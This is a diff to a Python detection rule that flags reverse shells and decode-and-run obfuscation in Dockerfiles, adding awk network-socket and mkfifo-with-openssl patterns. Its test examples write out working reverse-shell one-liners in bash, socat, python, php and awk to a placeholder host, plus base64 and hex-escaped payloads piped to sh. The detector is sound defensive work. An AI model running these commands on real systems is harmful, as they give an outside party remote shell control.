@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
 from capdrop import RUNNERS, Bad, Command, Finding, Good, Script, Severity, rule
@@ -20,13 +21,17 @@ INLINE = {
     "php": (("base64_decode", "hex2bin"), ("eval(", "assert(", "system(", "exec(")),
 }
 """By language: the calls that decode, and those that run text."""
-FEWEST_ESCAPES = 8
-"""`\\x63`: that many in one text hide what it says."""
+SPELLED = re.compile(r"\\x(?:[46][1-9a-fA-F]|[57][0-9aA])|\\0?1[0-7][0-7]")
+"""A letter that is written as its number, in base 16 or 8."""
 
 SHELLS = frozenset({"sh", "bash", "dash", "ash", "zsh", "ksh"})
 NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
 TALKERS = NETCATS | {"telnet", "socat"}
 """Programs that connect what they read and write to another machine."""
+AWKS = frozenset({"awk", "gawk"})
+AWK_NET_FILES = ("/inet/tcp/", "/inet4/tcp/", "/inet6/tcp/", "/inet/udp/")
+"""gawk's manual, Using gawk for Network Programming."""
+MAKES_PIPES = frozenset({"mkfifo", "mknod"})
 NET_FILES = ("/dev/tcp/", "/dev/udp/")
 """bash(1), Redirection: a path that is a connection."""
 SOCKETS = {
@@ -56,7 +61,7 @@ GIVES_SHELL = ("/bin/sh", "/bin/bash", "sh <&", "sh -i", "pty.spawn", "'sh'", '"
             RUN echo ZWNobyBoaQo= | base64 -d | «sh» && echo 6563686f | xxd -r -p | sudo «bash» -s
             RUN «eval» "$(echo ZWNobyBoaQo= | base64 --decode)" && «sh» -c "$(openssl enc -base64 -d < /x)" && «bash» <(base64 -di /y)
             RUN «python3» -c "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"
-            RUN printf '\x65\x63\x68\x6f\x20\x68\x69\x0a' | «sh»
+            RUN printf '\x65\x63\x68\x6f\x20\x68\x69\x0a' | «sh» && echo -e '\0145cho hi' | «sh» && «eval» "$(printf '\x65cho hi')"
             RUN echo ZWNobyBoaQo= | «base64» -d > /tmp/a.sh && chmod +x /tmp/a.sh && /tmp/a.sh
             """,
         ),
@@ -127,8 +132,8 @@ def _decodes(command: Command) -> bool:
 
 
 def _escaped(command: Command) -> bool:
-    """Whether a command prints a text that is spelled in numbers."""
-    return command.name in PRINTERS and any(word.text.count("\\x") >= FEWEST_ESCAPES for word in command.operands)
+    """Whether a command prints a text whose letters are spelled in numbers."""
+    return command.name in PRINTERS and any(SPELLED.search(word.text) is not None for word in command.operands)
 
 
 def _language(command: Command) -> str:
@@ -151,7 +156,7 @@ def _decodes_and_runs(command: Command) -> bool:
     "reverse-shell",
     severity=Severity.CRITICAL,
     references="ATT&CK T1059.004 · ATT&CK T1571 · ATT&CK T1095",
-    programs=RUNNERS | NETCATS | {"socat", ""},
+    programs=RUNNERS | NETCATS | AWKS | {"socat", ""},
     examples=(
         Bad(
             "Dockerfile",
@@ -163,6 +168,8 @@ def _decodes_and_runs(command: Command) -> bool:
             RUN «socat» TCP:203.0.113.5:4444 EXEC:'bash -li',pty,stderr
             RUN «python3» -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);pty.spawn("sh")'
             RUN exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do «$line» 2>&5 >&5; done
+            RUN mkfifo /tmp/s; «/bin/sh» -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 > /tmp/s
+            RUN «awk» 'BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while (1) {s |& getline c; while ((c |& getline) > 0) print $0 |& s}}'
             RUN echo '«bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1' >> /root/.bashrc
             RUN «php» -r '$s=fsockopen("203.0.113.5",4444);exec("sh <&3 >&3 2>&3");'
             CMD ["sh", "-c", "ncat 203.0.113.5 4444 | «bash»"]
@@ -186,6 +193,8 @@ def _decodes_and_runs(command: Command) -> bool:
             FROM debian:13
             RUN echo "bash -i >& /dev/tcp/203.0.113.5/4444" > /notes && nc -z db 5432 && echo ping | nc -w 1 db 80
             RUN timeout 1 bash -c 'echo > /dev/tcp/db/5432' && bash -c '</dev/tcp/db/5432' && nc -lk -p 80 -e /srv/answer
+            RUN sh < /setup.sh | nc logs 514 && awk 'BEGIN {s = "/inet/tcp/0/db/80"; print "GET" |& s; s |& getline a}'
+            RUN mkfifo /tmp/s; sh -i < /dev/null | openssl s_client -connect db:443 > /tmp/s
             RUN socat TCP-LISTEN:80,fork EXEC:/srv/answer & python3 -c 'import socket; socket.create_connection(("db", 5432))'
             HEALTHCHECK CMD exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET / HTTP/1.1\\r\\n' >&3; cat <&3 | grep -q ok
             """,
@@ -230,6 +239,8 @@ def _hands_over(command: Command) -> bool:
         texts = [word.text.lower() for word in command.operands]
         executes = any(text.startswith(("exec:", "system:")) and _names_shell(text.partition(":")[2]) for text in texts)
         return executes and any(text.startswith(("tcp", "udp", "openssl", "ssl")) for text in texts)
+    if name in AWKS:
+        return any(word.text.count("|& getline") > 1 and any(file in word.text for file in AWK_NET_FILES) for word in command.operands)
     language = _language(command)
     if language not in SOCKETS:
         return False
@@ -248,7 +259,16 @@ def _connected(command: Command) -> bool:
             return True
     if any(feeder.name in TALKERS for feeder in command.upstream()):
         return True
-    return command.writes_to is not None and command.writes_to.name in TALKERS and bool(command.feeders)
+    reader = command.writes_to
+    talks = reader is not None and (reader.name in TALKERS or (reader.name == "openssl" and reader.subcommand == "s_client"))
+    return talks and (bool(command.feeders) or _reads_pipe(command))
+
+
+def _reads_pipe(command: Command) -> bool:
+    """Whether it reads a named pipe that the same script makes."""
+    files = [word.text for operator, word in command.redirects if operator == "<" and word is not None]
+    makers = [other for other in command.siblings if other.name in MAKES_PIPES] if files else []
+    return any(word.text in files for maker in makers for word in maker.operands)
 
 
 def _opened(command: Command, number: str) -> bool:
